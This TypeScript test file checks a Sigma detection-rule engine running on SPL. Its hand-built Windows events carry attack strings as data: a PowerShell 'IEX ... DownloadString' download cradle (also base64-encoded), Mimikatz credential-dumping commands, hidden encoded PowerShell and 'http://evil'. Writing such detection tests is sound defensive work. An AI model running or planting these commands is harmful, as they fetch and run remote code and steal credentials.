/**
 * Sigma rules on the SPL engine: every modifier and condition form of test/fixtures/sigma/ (rules
 * written for these tests) against hand-built events, with the exact set of events each must match.
 */
import assert from "node:assert/strict";
import path from "node:path";
import { describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import type { WinEvent } from "../../src/events/model.js";
import { type LoadedRule, loadRuleFiles, RuleError, type RuleProblem } from "../../src/rules/loader.js";
import { run, winEvent } from "../spl/helpers.js";

const here = path.dirname(fileURLToPath(import.meta.url));
const fixtures = path.join(here, "..", "fixtures", "sigma");
const skipped: RuleProblem[] = [];
const rules = loadRuleFiles(
  ["strings.yml", "encodings.yml", "typed.yml", "conditions.yml", "correlations.yml"].map((f) =>
    path.join(fixtures, f),
  ),
  { onSkip: (p) => skipped.push(p), sigmaPlaceholders: { admins: ["CORP\\adm-*", "CORP\\root"] } },
);

function rule(title: string): LoadedRule {
  const r = rules.find((x) => x.name === title);
  assert.ok(r, `rule '${title}' loaded`);
  return r;
}

let clock = Date.parse("2024-05-01T10:00:00Z");
function at(): string {
  clock += 1000;
  return new Date(clock).toISOString();
}

function proc(tag: string, data: Record<string, string>): WinEvent {
  return winEvent({ eventID: "1", time: at(), data: { Tag: tag, ...data } });
}
function sec4688(tag: string, data: Record<string, string>): WinEvent {
  return winEvent({ eventID: "4688", channel: "Security", time: at(), data: { Tag: tag, ...data } });
}

async function tags(title: string, events: WinEvent[]): Promise<string[]> {
  const r = rule(title);
  const rows = await run(r.search as string, events, { file: r.file });
  // The rule's table keeps its own columns; find the tag through the event.
  return rows.map((row) => row.event?.eventData.find((d) => d.name === "Tag")?.value ?? "?").sort();
}

const b64utf16 = (s: string) => Buffer.from(s, "utf16le").toString("base64");

describe("Sigma detection rules: modifiers", () => {
  test("contains|all is an AND of the values, case-insensitive", async () => {
    const got = await tags("Sigma test - contains all, case-insensitive", [
      proc("m1", { CommandLine: "powershell -enc AAAA -w hidden" }),
      proc("n1", { CommandLine: "powershell -enc AAAA" }),
      proc("m2", { CommandLine: "POWERSHELL -ENC X -W HIDDEN" }),
      sec4688("m3", { CommandLine: "powershell -Enc x -WindowStyle Hidden" }),
    ]);
    assert.deepEqual(got, ["m1", "m2", "m3"]);
  });

  test("? matches one character, * any run, \\* a literal star", async () => {
    const got = await tags("Sigma test - wildcards and escapes", [
      proc("m1", { Image: "c:\\windows\\system32\\cmd.exe" }),
      proc("n1", { Image: "C:\\Windows\\Sys32\\cmd.exe" }),
      proc("n2", { Image: "C:\\Windows\\System32\\cmd.dll" }),
      proc("m2", { Image: "x", CommandLine: "echo *" }),
      proc("n3", { Image: "x", CommandLine: "echo x" }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("cased matches the case as written only", async () => {
    const got = await tags("Sigma test - cased", [
      proc("m1", { CommandLine: "powershell Invoke-Mimikatz -DumpCreds" }),
      proc("n1", { CommandLine: "powershell invoke-mimikatz" }),
    ]);
    assert.deepEqual(got, ["m1"]);
  });

  test("startswith/endswith lists; process_creation reads Sysmon 1 and Security 4688 with its field names", async () => {
    const got = await tags("Sigma test - startswith endswith lists", [
      proc("m1", { ParentImage: "C:\\Windows\\System32\\mmc.exe", Image: "C:\\Windows\\System32\\cmd.exe" }),
      proc("n1", { ParentImage: "C:\\Windows\\System32\\mmc.exe", Image: "D:\\tools\\cmd.exe" }),
      sec4688("m2", {
        ParentProcessName: "C:\\Program Files\\Microsoft Office\\EXCEL.EXE",
        NewProcessName: "C:\\Windows\\System32\\cmd.exe",
      }),
      winEvent({
        eventID: "1",
        channel: "Security",
        time: at(),
        data: { Tag: "n2", ParentImage: "C:\\x\\mmc.exe", Image: "C:\\Windows\\a.exe" },
      }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("wide|base64offset|contains finds UTF-16LE base64 at every offset", async () => {
    const payload = "IEX (New-Object Net.WebClient).DownloadString('http://x')";
    const got = await tags("Sigma test - base64offset of UTF-16LE", [
      proc("m0", { CommandLine: `powershell -e ${b64utf16(payload)}` }),
      proc("m1", { CommandLine: `powershell -e ${b64utf16(`a${payload}`)}` }),
      proc("m2", { CommandLine: `powershell -e ${b64utf16(`ab${payload}`)}` }),
      proc("n1", { CommandLine: `powershell -e ${Buffer.from(payload).toString("base64")}` }),
    ]);
    assert.deepEqual(got, ["m0", "m1", "m2"]);
  });

  test("base64 encodes the value as written", async () => {
    const got = await tags("Sigma test - base64 plain", [
      proc("m1", { CommandLine: `x ${Buffer.from("http://evil").toString("base64")} y` }),
      proc("n1", { CommandLine: "x http://evil y" }),
    ]);
    assert.deepEqual(got, ["m1"]);
  });

  test("windash: a word-leading dash may be any of - / en dash, em dash, horizontal bar", async () => {
    const got = await tags("Sigma test - windash", [
      proc("m1", { CommandLine: "powershell -nop -w hidden" }),
      proc("m2", { CommandLine: "powershell /nop -w hidden" }),
      proc("m3", { CommandLine: "powershell \u2013nop -w hidden" }),
      proc("m4", { CommandLine: "powershell \u2015nop x" }),
      proc("n1", { CommandLine: "powershell +nop x" }),
    ]);
    assert.deepEqual(got, ["m1", "m2", "m3", "m4"]);
  });

  test("expand replaces placeholders with every given value (wildcards kept)", async () => {
    const got = await tags("Sigma test - expand placeholder", [
      proc("m1", { User: "CORP\\adm-jdoe" }),
      proc("m2", { User: "corp\\root" }),
      proc("n1", { User: "CORP\\jdoe" }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("re is case-sensitive and unanchored unless written so; |i ignores case", async () => {
    const got = await tags("Sigma test - regex with and without i", [
      proc("m1", { CommandLine: "cmd.exe /c whoami" }),
      proc("n1", { CommandLine: "CMD.EXE /c whoami" }),
      proc("n2", { CommandLine: "x cmd.exe /c whoami" }),
      proc("m2", { CommandLine: "c:\\x\\net   user admin" }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("cidr, gte and gt compare addresses and numbers", async () => {
    const net = (tag: string, ip: string, port: string) =>
      winEvent({ eventID: "3", time: at(), data: { Tag: tag, DestinationIp: ip, DestinationPort: port } });
    const got = await tags("Sigma test - cidr and port ranges", [
      net("m1", "10.1.2.3", "49666"),
      net("m2", "192.168.5.5", "60000"),
      net("n1", "172.16.0.1", "49666"),
      net("n2", "10.1.2.3", "445"),
      net("n3", "10.1.2.3", "61000"),
      net("n4", "10.1.2.3", "not-a-number"),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("exists: false and null match a missing field; null also an empty one", async () => {
    const got = await tags("Sigma test - exists and null", [
      proc("m1", { Image: "C:\\Windows\\rundll32.exe", ParentCommandLine: "x" }),
      proc("m2", { Image: "C:\\Windows\\rundll32.exe", User: "a", ParentCommandLine: "" }),
      proc("n1", { Image: "C:\\Windows\\rundll32.exe", User: "a", ParentCommandLine: "x" }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("fieldref compares two fields; lte under not", async () => {
    const acc = (tag: string, data: Record<string, string>) =>
      winEvent({ eventID: "10", time: at(), data: { Tag: tag, ...data } });
    const got = await tags("Sigma test - fieldref and lte", [
      acc("m1", { SourceImage: "C:\\a.exe", TargetImage: "c:\\A.EXE", GrantedAccess: "4096" }),
      acc("n1", { SourceImage: "C:\\a.exe", TargetImage: "C:\\b.exe", GrantedAccess: "4096" }),
      acc("n2", { SourceImage: "C:\\a.exe", TargetImage: "C:\\a.exe", GrantedAccess: "16" }),
      acc("n3", { SourceImage: "C:\\a.exe", GrantedAccess: "4096" }),
    ]);
    assert.deepEqual(got, ["m1"]);
  });
});

describe("Sigma detection rules: conditions and logsources", () => {
  test("keywords match anywhere in the event text, with wildcards", async () => {
    const sys = (tag: string, msg: string) =>
      winEvent({
        eventID: "7045",
        channel: "System",
        provider: "Service Control Manager",
        time: at(),
        data: { Tag: tag, ImagePath: msg },
      });
    const got = await tags("Sigma test - keywords", [
      sys("m1", "C:\\temp\\MimiKatz.exe"),
      sys("m2", "x sekurlsa::logonpasswords"),
      sys("n1", "C:\\temp\\kiwi.exe"),
      proc("n2", { CommandLine: "mimikatz" }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("all of them leaves out _names; not _helper", async () => {
    const logon = (tag: string, data: Record<string, string>) =>
      winEvent({ eventID: "4624", channel: "Security", time: at(), data: { Tag: tag, ...data } });
    const got = await tags("Sigma test - all of them with underscore filter", [
      logon("m1", { LogonType: "3", AuthenticationPackageName: "NTLM", TargetUserName: "bob" }),
      logon("n1", { LogonType: "3", AuthenticationPackageName: "NTLM", TargetUserName: "ANONYMOUS LOGON" }),
      logon("n2", { LogonType: "2", AuthenticationPackageName: "NTLM", TargetUserName: "bob" }),
      logon("n3", { LogonType: "3", AuthenticationPackageName: "Kerberos", TargetUserName: "bob" }),
    ]);
    assert.deepEqual(got, ["m1"]);
  });

  test("not (a or b) keeps events that lack the filtered fields", async () => {
    const got = await tags("Sigma test - nested not and parentheses", [
      proc("m1", { Image: "C:\\p\\powershell.exe" }),
      proc("m2", { Image: "C:\\p\\powershell.exe", ParentImage: "C:\\x\\cmd.exe", CommandLine: "x" }),
      proc("n1", { Image: "C:\\p\\powershell.exe", ParentImage: "C:\\Windows\\explorer.exe" }),
      proc("n2", { Image: "C:\\p\\powershell.exe", CommandLine: "Get-Date" }),
    ]);
    assert.deepEqual(got, ["m1", "m2"]);
  });

  test("a logsource with no Windows mapping is skipped, with its reason and place", () => {
    assert.equal(
      rules.find((r) => r.name === "Sigma test - unknown logsource"),
      undefined,
    );
    const s = skipped.find((p) => p.message.includes("unknown logsource"));
    assert.ok(s, JSON.stringify(skipped));
    assert.match(s.message, /product 'linux'/);
    assert.ok(s.line > 1 && s.file.endsWith("conditions.yml"));
  });

  test("metadata: level, tags, ATT&CK ids, status", () => {
    const r = rule("Sigma test - contains all, case-insensitive");
    assert.equal(r.severity, "high");
    assert.equal(r.pack, "sigma");
    assert.deepEqual(r.mitre, { tactic: ["execution"], technique: ["T1059"], sub_technique: ["T1059.001"] });
    assert.deepEqual(r.sigma?.tags, ["attack.execution", "attack.t1059.001"]);
    assert.equal(r.status, "experimental");
  });

  test("the compiled SPL of an exact-wildcard rule is one search that pushes down", () => {
    const r = rule("Sigma test - startswith endswith lists");
    assert.doesNotMatch(r.search as string, /\| where/);
    const regex = rule("Sigma test - regex with and without i");
    assert.match(regex.search as string, /\| where .*match\(CommandLine/);
  });
});

describe("Sigma correlation rules", () => {
  const fail = (tag: string, ip: string, user: string, t: string) =>
    winEvent({
      eventID: "4625",
      channel: "Security",
      time: t,
      data: { Tag: tag, IpAddress: ip, TargetUserName: user },
    });
  const ok = (tag: string, ip: string, user: string, t: string) =>
    winEvent({
      eventID: "4624",
      channel: "Security",
      time: t,
      data: { Tag: tag, IpAddress: ip, TargetUserName: user },
    });
  const events = [
    fail("f1", "10.0.0.5", "alice", "2024-05-01T10:00:10Z"),
    fail("f2", "10.0.0.5", "bob", "2024-05-01T10:00:20Z"),
    fail("f3", "10.0.0.5", "carol", "2024-05-01T10:00:30Z"),
    fail("f4", "10.0.0.9", "alice", "2024-05-01T10:00:40Z"),
    fail("f5", "10.0.0.9", "alice", "2024-05-01T10:01:40Z"),
    ok("s1", "10.0.0.5", "carol", "2024-05-01T10:02:00Z"),
    ok("s2", "10.0.0.9", "alice", "2024-05-01T09:59:00Z"),
  ];
  const rows = async (title: string) => {
    const r = rule(title);
    return (await run(r.search as string, events, { file: r.file })).map((row) =>
      Object.fromEntries([...row.fields].filter(([k]) => !k.startsWith("_") || k === "_time")),
    );
  };

  test("event_count: 3 failures from one address in a 5 minute window", async () => {
    const got = await rows("Sigma test - many failed logons from one address");
    assert.equal(got.length, 1);
    assert.equal(got[0].IpAddress, "10.0.0.5");
    assert.equal(String(got[0].event_count), "3");
  });

  test("value_count: distinct accounts per address", async () => {
    const got = await rows("Sigma test - sprayed accounts");
    assert.deepEqual(
      got.map((g) => [g.IpAddress, String(g.value_count)]),
      [["10.0.0.5", "3"]],
    );
  });

  test("temporal_ordered: failures then a success from the same address (aliases)", async () => {
    const got = await rows("Sigma test - failures then success");
    assert.deepEqual(
      got.map((g) => g.src_ip),
      ["10.0.0.5"],
    );
  });

  test("rules used only by a correlation do not alert on their own (generate: false)", () => {
    assert.equal(
      rules.find((r) => r.name === "Sigma test - failed logon"),
      undefined,
    );
  });
});

describe("Sigma errors", () => {
  test("a bad condition is an error at the condition's place", () => {
    const file = path.join(here, "..", "fixtures", "sigma-bad", "bad-condition.yml");
    assert.throws(
      () => loadRuleFiles([file]),
      (err: unknown) =>
        err instanceof RuleError &&
        err.problems.some((p) => p.line === 9 && /no detection named 'selecton'/.test(p.message)),
    );
  });
  test("an unknown modifier is an error naming it", () => {
    const file = path.join(here, "..", "fixtures", "sigma-bad", "bad-modifier.yml");
    assert.throws(
      () => loadRuleFiles([file]),
      (err: unknown) =>
        err instanceof RuleError &&
        err.problems.some((p) => p.line === 7 && /unknown modifier 'contain'/.test(p.message)),
    );
  });
});
